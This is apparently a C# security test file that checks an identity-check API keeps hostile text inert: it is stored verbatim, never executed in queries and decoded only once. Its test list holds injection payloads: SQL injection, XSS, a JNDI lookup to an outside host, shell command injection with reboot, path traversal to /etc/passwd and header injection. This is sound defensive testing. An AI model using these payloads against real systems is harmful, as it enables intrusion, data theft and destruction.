using System.Text.Json;
using Vestibule.Database;
using Vestibule.Tests.Harness;

namespace Vestibule.Tests.Security;

/// <summary>Text that means something to somebody else is text here: kept, compared and given back as it came.</summary>
public sealed class HostileTextTests
{
    private const string Checks = "/api/spaces/coworkeridentitychecks";

    public static readonly string[] Texts =
    [
        "'; DROP TABLE IdentityChecks; --",
        "\" OR 1=1 --",
        "x' UNION SELECT PasswordHash FROM AspNetUsers --",
        "%' OR '%'='",
        "a_b%c[d]^e\\",
        "<script>alert(1)</script>",
        "</script><svg onload=alert(1)>",
        "\",\"IsAdmin\":true,\"x\":\"",
        "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
        "${jndi:ldap://elsewhere.example/a}",
        "$(reboot) `reboot` | reboot ; reboot",
        "%s%s%n {0} {1:N}",
        "%3Cb%3E %253Cb%253E &lt;b&gt; \\u003cb\\u003e",
        "=HYPERLINK(\"https://elsewhere.example\")",
        "[link](javascript:alert(1)) <!--#exec cmd=\"ls\"-->",
        "../../etc/passwd",
        "line\r\nSet-Cookie: a=b",
    ];

    [Theory, ClassData(typeof(OnBoth))]
    public async Task IsKeptAndGivenBackAsItCame(DatabaseProvider provider)
    {
        var world = await Apps.World(provider);
        var business = await world.Business();
        var coworker = await world.Coworker(business);
        using var admin = await world.Administrator();
        foreach (var text in Texts)
        {
            var made = await admin.Posts(
                Checks,
                $$"""{"BusinessId":{{business.Id}},"CoworkerId":{{coworker.Id}},"Name":"Hostile","Description":{{JsonSerializer.Serialize(text)}}}"""
            );
            made.Status.ShouldBe(200, text);
            var read = await admin.Gets($"{Checks}/{made.Id}");
            read["Description"]!.GetValue<string>().ShouldBe(text);
            read.Json.AsObject().ContainsKey("x").ShouldBeFalse();
        }
    }

    [Theory, ClassData(typeof(OnBoth))]
    public async Task IsLookedForAndNeverObeyed(DatabaseProvider provider)
    {
        var world = await Apps.World(provider);
        var business = await world.Business();
        var coworker = await world.Coworker(business);
        using var own = await world.Operator(
            business,
            "CoworkerIdentityCheck-List",
            "CoworkerIdentityCheck-Read",
            "CoworkerIdentityCheck-Create"
        );
        await own.Posts(
            Checks,
            $$"""{"BusinessId":{{business.Id}},"CoworkerId":{{coworker.Id}},"Name":"Plain"}"""
        );
        foreach (var text in Texts)
        {
            var asked = Uri.EscapeDataString(text);
            var found = await own.Gets($"{Checks}?CoworkerIdentityCheck_Name={asked}");
            found.Status.ShouldBe(200, text);
            found.Records.ShouldBeEmpty(text);
            var sorted = await own.Gets($"{Checks}?orderBy={asked}&size=5&dir={asked}");
            sorted.Status.ShouldBeOneOf(200, 400);
            (await own.Gets($"{Checks}?page={asked}")).Status.ShouldBeOneOf(200, 400);
            (await own.Gets($"{Checks}/{asked}")).Status.ShouldBeOneOf(400, 404);
        }

        // Still there, and still only its own.
        (await own.Gets(Checks)).Records.Count.ShouldBe(1);
    }

    [Theory, ClassData(typeof(OnBoth))]
    public async Task IsDecodedOnce(DatabaseProvider provider)
    {
        var world = await Apps.World(provider);
        var business = await world.Business();
        var coworker = await world.Coworker(business);
        using var admin = await world.Administrator();
        async Task<long> Make(string name) =>
            (
                await admin.Posts(
                    Checks,
                    $$"""{"BusinessId":{{business.Id}},"CoworkerId":{{coworker.Id}},"Name":{{JsonSerializer.Serialize(name)}}}"""
                )
            ).Id;
        var (once, twice) = (await Make("A%42C"), await Make("A%2542C"));
        var plain = await Make("ABC");
        var mine = $"&CoworkerIdentityCheck_Coworker={coworker.Id}";
        (await Ids("A%2542C")).ShouldBe([once]);
        (await Ids("A%252542C")).ShouldBe([twice]);
        (await Ids("A%42C")).ShouldBe([plain]);

        async Task<long[]> Ids(string asked) =>
            [
                .. (
                    await admin.Gets($"{Checks}?CoworkerIdentityCheck_Name={asked}{mine}")
                ).Records.Select(record => record!["Id"]!.GetValue<long>()),
            ];
    }
}
